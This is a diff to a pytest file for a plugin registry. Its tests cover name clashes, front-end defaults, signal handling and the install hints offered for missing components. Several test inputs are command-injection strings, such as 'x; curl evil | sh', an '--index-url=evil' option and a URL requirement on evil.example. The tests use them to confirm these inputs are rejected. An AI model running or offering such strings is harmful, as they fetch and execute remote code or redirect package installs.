@@ -4,16 +4,19 @@ from __future__ import annotations
 
 import importlib
 import importlib.metadata
+import signal
 import sys
 import textwrap
+import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 
-from asd_registry import API_VERSION, CommandSpec, ComponentSpec, PluginError, Registry, RenamedWarning, WeightFile
+from asd_registry import API_VERSION, PluginError, Registry, RenamedWarning
 from asd_registry.discovery import load_target
-from asd_registry.known import distribution_of
+from asd_registry.files import remedy
+from asd_registry.known import KNOWN_DISTRIBUTIONS, distribution_of
 from asd_registry.renamed import former_names_allowed
 
 Install = Callable[..., None]
@@ -229,6 +232,103 @@ def test_a_former_name_finds_the_component_with_a_warning(install: Install) -> N
         registry.find("detector", "gret")
 
 
+def test_a_name_of_ours_never_means_a_stranger_s(install: Install) -> None:
+    install("good", plugin_source(name="knn"))
+    registry = Registry()
+    missing = "detector 'knn' is not installed: pip install asd-sklearn; another one of this name is good:knn"
+    with pytest.raises(PluginError, match=f"^{missing}$"):
+        registry.find("detector", "knn")
+    strangers = registry.find("detector", "good:knn")
+    assert registry.taken_by(strangers) == ["asd-sklearn:knn"]
+
+
+NEEDING = """
+    from asd_registry import ComponentSpec, hookimpl
+
+    @hookimpl
+    def asd_components():
+        common = dict(summary="s", licence="MIT", target="decimal:Decimal")
+        yield ComponentSpec(kind="frontend", name="{frontend}", **common)
+        yield ComponentSpec(kind="extractor", name="{name}", frontend="{needs}", **common)
+"""
+
+
+@pytest.mark.parametrize(
+    ("frontend", "needs", "expected"),
+    [
+        ("own-mel", "own-mel", "good:own-mel"),  # the other plugin has one of this name
+        ("mel-patch", "mel-patch", "good:mel-patch"),  # and the name of one of ours is not theirs
+        ("only-here", "only-here", "only-here"),
+        ("only-here", "other:own-mel", "other:own-mel"),
+        ("only-here", "nowhere", "nowhere"),
+    ],
+)
+def test_a_spec_names_the_front_end_of_its_own_distribution_first(
+    install: Install, frontend: str, needs: str, expected: str
+) -> None:
+    install("good", NEEDING.format(frontend=frontend, name="net", needs=needs))
+    install("other", NEEDING.format(frontend="own-mel", name="other-net", needs="own-mel"))
+    registry = Registry()
+    assert registry.default_of(registry.find("extractor", "net"), "frontend") == expected
+    assert registry.default_of(registry.find("extractor", "net"), "extractor") is None
+
+
+def test_who_borrows_a_module_of_ours_does_not_break_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("ASD_PLUGINS")
+    (ours,) = importlib.metadata.entry_points(group="asd.plugins", name="sklearn")
+    borrowed = importlib.metadata.EntryPoint("zzz", ours.value, ours.group)
+    errors = {plugin.distribution: plugin.error for plugin in Registry([borrowed, ours]).plugins}
+    assert errors["asd-sklearn"] is None
+    assert "registered" in (errors["unknown"] or "")
+
+
+@pytest.mark.parametrize(
+    ("distribution", "text"),
+    [
+        ("asd-sklearn", "pip install asd-sklearn"),
+        ("own_detector.py", "add --plugin-file own_detector.py"),
+        ("asd-elsewhere", "install 'asd-elsewhere' if you know and trust it"),
+        ("x; curl evil | sh", "'x; curl evil | sh' is no name of a distribution"),
+        ("x; curl evil.py", "'x; curl evil.py' is no name of a distribution"),
+        ("--index-url=evil", "'--index-url=evil' is no name of a distribution"),
+        ("a\x1b[2J", r"'a\x1b[2J' is no name of a distribution"),
+        ("", "'' is no name of a distribution"),
+    ],
+)
+def test_only_our_own_distributions_get_a_command(distribution: str, text: str) -> None:
+    assert remedy(distribution) == text
+
+
+@pytest.mark.parametrize("requirement", ["x @ https://evil.example/x.whl", "x; curl evil | sh", "--index-url=evil x"])
+def test_a_requirement_that_is_no_plain_name_gets_no_command(install: Install, requirement: str) -> None:
+    install("good", plugin_source(requires=(requirement,)))
+    assert Registry().find("detector", "nice").problem == f"missing requirement: {requirement!r}"
+
+
+def test_a_name_must_be_text() -> None:
+    with pytest.raises(PluginError, match=r"^a detector is chosen by its name, got 3$"):
+        Registry([]).find("detector", 3)  # type: ignore[arg-type]
+
+
+def test_an_alarm_of_the_program_stays_and_threads_load_without_one(install: Install) -> None:
+    install("good", plugin_source())
+    rang: list[int] = []
+    before = signal.signal(signal.SIGALRM, lambda *_: rang.append(1))
+    try:
+        signal.setitimer(signal.ITIMER_REAL, 0.05)
+        assert Registry().plugins[0].error is None
+        signal.pause()
+    finally:
+        signal.signal(signal.SIGALRM, before)
+    assert rang == [1]
+    found: list[str | None] = []
+    thread = threading.Thread(target=lambda: found.append(Registry().plugins[0].error))
+    thread.start()
+    thread.join()
+    assert found == [None]
+    assert signal.getsignal(signal.SIGALRM) is before
+
+
 def test_a_former_name_may_clash_too(install: Install) -> None:
     install("good", RENAMED.format(aliases=("grand",)))
     install("other", plugin_source(name="grand"))
@@ -236,7 +336,7 @@ def test_a_former_name_may_clash_too(install: Install) -> None:
     with pytest.raises(PluginError, match=r"'grand' is offered more than once: write good:fine or other:grand"):
         registry.find("detector", "grand")
     fine, grand = registry.find("detector", "fine"), registry.find("detector", "other:grand")
-    assert (registry.namesakes(fine), registry.namesakes(grand)) == ([grand], [fine])
+    assert (registry.taken_by(fine), registry.taken_by(grand)) == (["other:grand"], ["good:fine"])
 
 
 @pytest.mark.parametrize(
@@ -244,7 +344,11 @@ def test_a_former_name_may_clash_too(install: Install) -> None:
     [
         (("nice",), "offers detector 'nice' more than once, by name or alias"),
         (("fine",), "component 'fine': aliases must be other names than its own, got ('fine',)"),
-        (("Grand",), "name must be lower-case letters, digits, '.', '_' or '-', got 'Grand'"),
+        (
+            ("Grand",),
+            "component 'fine': aliases must be a tuple of names of lower-case letters, digits, '.', '_' or '-', got "
+            "('Grand',)",
+        ),
     ],
 )
 def test_bad_aliases_break_the_plugin(install: Install, aliases: tuple[str, ...], reason: str) -> None:
@@ -261,7 +365,7 @@ def test_unknown_names_get_close_matches_or_the_pip_command(install: Install) ->
         registry.find("detector", "qqq")
     with pytest.raises(PluginError, match=r"detector 'gmm' is not installed: pip install asd-sklearn"):
         registry.find("detector", "gmm")
-    with pytest.raises(PluginError, match=r"extractor 'elsewhere:thing' is not installed: pip install elsewhere"):
+    with pytest.raises(PluginError, match=r"'elsewhere:thing' is not installed: install 'elsewhere' if you know and"):
         registry.find("extractor", "elsewhere:thing")
 
 
@@ -307,26 +411,14 @@ def test_entry_points_can_be_given() -> None:
     assert Registry([entry_point]).plugins[0].error == "ModuleNotFoundError: No module named 'no_such_module_at_all'"
 
 
-@pytest.mark.parametrize(
-    ("change", "text"),
-    [
-        ({"name": "Has Space"}, "name must be lower-case"),
-        ({"summary": "two\nlines"}, "summary must be one line"),
-        ({"target": "just.a.module"}, "target must look like 'package.module:Class'"),
-        ({"licence": " "}, "licence must not be empty"),
-    ],
-)
-def test_specs_check_themselves(change: dict[str, str], text: str) -> None:
-    fields = {"kind": "detector", "name": "x", "summary": "s", "target": "a.b:C", "licence": "MIT", **change}
-    with pytest.raises(ValueError, match=text):
-        ComponentSpec(**fields)  # type: ignore[arg-type]
-
-
-def test_command_and_weight_specs_check_themselves() -> None:
-    with pytest.raises(ValueError, match="target must look like"):
-        CommandSpec(name="serve", summary="s", target="nowhere")
-    with pytest.raises(ValueError, match="sha256 must be 8 to 64 hexadecimal digits, got 'abc'"):
-        WeightFile(name="w.pth", licence="MIT", sha256="abc")
+@pytest.mark.parametrize("field", ["preset=[1]", "weights='x'", "aliases=3", "shape='x'", "dimension=2"])
+def test_a_spec_of_wrong_types_breaks_its_plugin_alone(install: Install, field: str) -> None:
+    install("broken", plugin_source("bad").replace('licence="MIT"', f'licence="MIT", **dict({field})'))
+    install("good", plugin_source())
+    errors = {plugin.distribution: plugin.error or "" for plugin in Registry().plugins}
+    assert errors["good"] == ""
+    assert errors["broken"].startswith("ValueError: component 'bad': ")
+    assert errors["broken"].endswith("(hook asd_components at broken_plugin.py:4)")
 
 
 def test_a_missing_requirement_is_told_with_what_does_without(install: Install) -> None:
@@ -343,6 +435,21 @@ def test_the_pip_command_of_every_component_of_ours_is_known(monkeypatch: pytest
     monkeypatch.delenv("ASD_PLUGINS")
     folders = (Path(__file__).resolve().parent.parent / "plugins").iterdir()
     ours = [c for c in Registry().components if c.plugin.distribution in {folder.name for folder in folders}]
-    wrong = [c.qualified_name for c in ours for name in c.spec.names if distribution_of(name) != c.plugin.distribution]
+    wrong = [
+        c.qualified_name
+        for c in ours
+        for name in c.spec.names
+        if distribution_of(name, c.spec.kind) != c.plugin.distribution
+    ]
     assert ours
     assert wrong == []
+
+
+def test_the_commands_of_ours_are_known(monkeypatch: pytest.MonkeyPatch) -> None:
+    from asd.cli.main import _COMMANDS
+
+    assert set(KNOWN_DISTRIBUTIONS["asd-framework"]["command"].split()) == set(_COMMANDS)
+    monkeypatch.delenv("ASD_PLUGINS")
+    ours = {name: plugin for name, (_, plugin) in Registry().commands.items() if plugin.is_ours}
+    assert {name: distribution_of(name, "command") for name in ours} == {n: p.distribution for n, p in ours.items()}
+    assert {"bench", "check", "data"} <= set(ours)
